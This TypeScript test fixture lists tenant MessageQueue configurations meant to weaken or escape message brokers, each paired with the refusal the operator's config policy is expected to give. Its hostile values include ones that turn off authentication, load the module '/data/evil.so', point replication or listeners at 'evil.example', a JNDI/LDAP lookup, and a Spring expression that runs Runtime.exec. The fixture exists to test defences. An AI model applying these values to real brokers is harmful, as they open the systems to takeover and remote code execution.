/**
 * The bad-tenant table: MessageQueues a tenant might write to weaken a broker, reach past it, or
 * break its configuration file, each with the refusal it must get. Beside `bad-input.ts` (plain
 * input errors), this table is about the config policy (`operator/src/api/config-policy.ts`) and
 * the values that reach labels.
 *
 * - `by: 'api'`: the API server refuses the object (CEL or OpenAPI); `message` is a substring of
 *   its error. The operator's own check (`specProblems`) must refuse it too, for a cluster whose
 *   CRD is older than the operator: the unit suite checks that.
 * - `by: 'operator'`: admitted (CEL cannot say it), then the operator stalls it:
 *   `Stalled=True`, `reason=InvalidConfiguration`, a message with `field` and `message`.
 *
 * The unit suite runs the table offline (CRD validator, operator check); the integration suite
 * applies every entry to a real API server with mqop running.
 */
import type { EngineName } from '../src/api/engines.ts';

export type TenantAttack =
  | 'auth' // turns authentication or authorization off or around
  | 'code' // loads code, files or classes into the broker
  | 'topology' // moves listeners, ports, replication or cluster membership
  | 'format' // breaks the configuration file's syntax
  | 'label'; // a value that cannot be a label

export interface BadTenant {
  what: string;
  engine: EngineName;
  attack: TenantAttack;
  /** `spec` besides `engine`. */
  spec: Record<string, unknown>;
  by: 'api' | 'operator';
  /** The field the refusal names (for `api`: as the API server prints it). */
  field: string;
  /** A substring of the refusal. */
  message: string;
}

const cfg = (
  engine: EngineName,
  attack: TenantAttack,
  key: string,
  value: string,
  what?: string,
): BadTenant => ({
  what: what ?? `${engine}: ${key}=${value}`,
  engine,
  attack,
  spec: { config: { [key]: value } },
  by: 'api',
  field: 'spec.config',
  message: `config key "${key}" is refused for ${engine}`,
});

/** Admitted by the API server, stalled by the operator. */
const stall = (
  engine: EngineName,
  attack: TenantAttack,
  key: string,
  value: string,
  message: string,
): BadTenant => ({
  what: `${engine}: ${key}=${value} (operator)`,
  engine,
  attack,
  spec: { config: { [key]: value } },
  by: 'operator',
  field: `spec.config.${key}`,
  message,
});

const valueRule = (engine: EngineName, key: string, value: string, message: string): BadTenant => ({
  what: `${engine}: ${key}=${value}`,
  engine,
  attack: 'format',
  spec: { config: { [key]: value } },
  by: 'api',
  field: 'spec.config',
  message,
});

export const BAD_TENANTS: BadTenant[] = [
  // Redis: directives are case-insensitive, so is the policy.
  cfg('redis', 'auth', 'USER', 'ops on nopass ~* &* +@all', 'redis: USER (upper case) with nopass'),
  cfg('redis', 'auth', 'user', 'ops on nopass ~* &* +@all'),
  cfg('redis', 'auth', 'RequirePass', 'x', 'redis: RequirePass (mixed case)'),
  cfg('redis', 'auth', 'masteruser', 'default'),
  cfg('redis', 'auth', 'aclfile', '/data/users.acl'),
  cfg('redis', 'auth', 'protected-mode', 'no'),
  cfg('redis', 'auth', 'acl-pubsub-default', 'allchannels'),
  cfg('redis', 'code', 'rename-command', 'CONFIG ""'),
  cfg('redis', 'code', 'RENAME-COMMAND', 'AUTH ""', 'redis: RENAME-COMMAND (upper case)'),
  cfg('redis', 'code', 'include', '/data/evil.conf'),
  cfg('redis', 'code', 'enable-debug-command', 'yes'),
  cfg('redis', 'code', 'enable-module-command', 'yes'),
  cfg('redis', 'code', 'enable-protected-configs', 'yes'),
  cfg('redis', 'code', 'Enable-Protected-Configs', 'yes', 'redis: Enable-Protected-Configs (mixed case)'),
  cfg('redis', 'code', 'loadmodule', '/data/evil.so'),
  cfg('redis', 'code', 'dir', '/tmp'),
  cfg('redis', 'topology', 'slaveof', 'evil.example 6379'),
  cfg('redis', 'topology', 'replicaof', 'evil.example 6379'),
  cfg('redis', 'topology', 'port', '0'),
  cfg('redis', 'topology', 'tls-port', '6380'),
  cfg('redis', 'topology', 'cluster-enabled', 'yes'),
  stall('redis', 'format', 'maxmemory-policy', '"allkeys-lru', 'unbalanced quotes'),
  stall('redis', 'format', 'save', '"3600 1', 'unbalanced quotes'),
  stall('redis', 'format', 'notify-keyspace-events', '"Ex"x', 'unbalanced quotes'),
  stall('redis', 'format', 'client-output-buffer-limit', "normal 0 0 '0", 'unbalanced quotes'),
  // Kafka: keys are case-sensitive; per-listener overrides are a prefix of their own.
  cfg('kafka', 'auth', 'authorizer.class.name', 'none'),
  cfg('kafka', 'auth', 'allow.everyone.if.no.acl.found', 'true'),
  cfg('kafka', 'auth', 'super.users', 'User:ANONYMOUS'),
  cfg('kafka', 'auth', 'listener.name.client.sasl.enabled.mechanisms', 'PLAIN'),
  cfg('kafka', 'auth', 'listener.name.client.plain.sasl.jaas.config', 'x required;'),
  cfg('kafka', 'auth', 'sasl.enabled.mechanisms', 'PLAIN'),
  cfg('kafka', 'auth', 'principal.builder.class', 'x.Admin'),
  cfg('kafka', 'auth', 'delegation.token.secret.key', 'k'),
  cfg('kafka', 'auth', 'ssl.client.auth', 'none'),
  cfg('kafka', 'topology', 'listener.security.protocol.map', 'CLIENT:PLAINTEXT'),
  cfg('kafka', 'topology', 'advertised.listeners', 'CLIENT://evil.example:9092'),
  cfg('kafka', 'topology', 'early.start.listeners', 'CLIENT'),
  cfg('kafka', 'topology', 'node.id', '7'),
  cfg('kafka', 'topology', 'log.dir', '/tmp'),
  cfg('kafka', 'code', 'config.providers', 'file'),
  cfg('kafka', 'code', 'client.quota.callback.class', 'x.Quota'),
  cfg('kafka', 'code', 'metric.reporters', 'x.Reporter'),
  // RocketMQ: keys are case-sensitive JavaBean names; the whole auth family is refused.
  cfg('rocketmq', 'auth', 'authenticationEnabled', 'false'),
  cfg('rocketmq', 'auth', 'authorizationEnabled', 'false'),
  cfg('rocketmq', 'auth', 'authenticationWhitelist', '0.0.0.0/0'),
  cfg('rocketmq', 'auth', 'authorizationWhitelist', '0.0.0.0/0'),
  cfg('rocketmq', 'auth', 'authenticationProvider', 'x.AllowAll'),
  cfg('rocketmq', 'auth', 'authorizationMetadataProvider', 'x.AllowAll'),
  cfg('rocketmq', 'auth', 'aclEnable', 'false'),
  cfg('rocketmq', 'auth', 'innerClientAuthenticationCredentials', '{}'),
  cfg('rocketmq', 'topology', 'brokerIP1', '203.0.113.9'),
  cfg('rocketmq', 'topology', 'storePathCommitLog', '/tmp'),
  cfg('rocketmq', 'topology', 'fetchNamesrvAddrByAddressServer', 'true'),
  // RabbitMQ: the vhost and listeners the connection Secret names, users, login mechanisms.
  cfg('rabbitmq', 'auth', 'default_vhost', 'other'),
  cfg('rabbitmq', 'auth', 'loopback_users.guest', 'false'),
  cfg('rabbitmq', 'auth', 'auth_mechanisms.1', 'ANONYMOUS'),
  cfg('rabbitmq', 'auth', 'auth_backends.1', 'cache'),
  cfg('rabbitmq', 'auth', 'anonymous_login_user', 'guest'),
  cfg('rabbitmq', 'auth', 'default_permissions.configure', '.*'),
  cfg('rabbitmq', 'code', 'load_definitions', '/tmp/definitions.json'),
  cfg('rabbitmq', 'code', 'definitions.import_backend', 'http'),
  cfg('rabbitmq', 'topology', 'listeners.tcp.default', '5673'),
  cfg('rabbitmq', 'topology', 'listeners.tcp.other', '5673'),
  cfg('rabbitmq', 'topology', 'cluster_formation.peer_discovery_backend', 'classic_config'),
  cfg('rabbitmq', 'topology', 'cluster_partition_handling', 'ignore'),
  cfg('rabbitmq', 'topology', 'mqtt.allow_anonymous', 'true'),
  valueRule('rabbitmq', 'heartbeat', ' ', 'values for rabbitmq must be a value that is not empty'),
  // ActiveMQ: values reach Spring XML, where ${...} and #{...} are evaluated at start.
  valueRule(
    'activemq',
    'memoryLimit',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Spring placeholder, on purpose
    '${jndi:ldap://evil.example/a}',
    'config.memoryLimit for activemq must be a size',
  ),
  valueRule(
    'activemq',
    'storeLimit',
    '#{T(java.lang.Runtime).getRuntime().exec("id")}',
    'config.storeLimit for activemq must be a size',
  ),
  valueRule(
    'activemq',
    'maxConnections',
    '10" useJmx="true',
    'config.maxConnections for activemq must be a whole number',
  ),
  valueRule(
    'activemq',
    'schedulerSupport',
    'yes',
    'config.schedulerSupport for activemq must be true or false',
  ),
  valueRule(
    'activemq',
    'maxFrameSize',
    '1&amp;x',
    'config.maxFrameSize for activemq must be a size in bytes',
  ),
  // ZeroMQ: values are flags of mqop's own process.
  valueRule('zeromq', 'sndhwm', '--help', 'config.sndhwm for zeromq must be a whole number'),
  valueRule('zeromq', 'linger', 'forever', 'config.linger for zeromq must be milliseconds'),
  // Values that reach labels.
  {
    what: 'version with semver build metadata (+)',
    engine: 'redis',
    attack: 'label',
    spec: { version: '7.4.6+deb12' },
    by: 'api',
    field: 'spec.version',
    message: 'spec.version in body should match',
  },
  {
    what: 'version ending in a dash',
    engine: 'kafka',
    attack: 'label',
    spec: { version: '3.9.1-' },
    by: 'api',
    field: 'spec.version',
    message: 'spec.version in body should match',
  },
];
